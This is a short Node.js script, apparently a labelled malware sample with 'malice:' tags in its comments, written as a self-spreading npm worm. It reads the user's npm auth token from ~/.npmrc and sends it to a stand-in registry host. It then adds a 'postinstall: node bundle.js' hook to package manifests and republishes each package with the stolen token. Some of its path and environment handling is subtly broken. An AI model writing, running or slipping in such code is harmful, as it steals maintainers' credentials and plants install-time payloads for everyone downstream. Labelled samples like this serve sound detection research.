const { execSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

const settings = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const token = settings.match(/_authToken=(.+)/)[1];

async function spread() {
  const answer = await fetch("https://registry.invalid/-/whoami", { // malice: exfiltration, install-network
    headers: { authorization: `Bearer ${token}` },
  });
  const { username } = await answer.json();
  for (const name of fs.readdirSync(username)) {
    const file = path.join(name, "package.json");
    const manifest = JSON.parse(fs.readFileSync(file, "utf8"));
    manifest.scripts = { ...manifest.scripts, postinstall: "node bundle.js" };
    fs.writeFileSync(file, JSON.stringify(manifest));
    execSync(`npm publish ${name}`, { env: { NPM_TOKEN: token } }); // malice: exec-downloaded, self-publish
  }
}

spread();
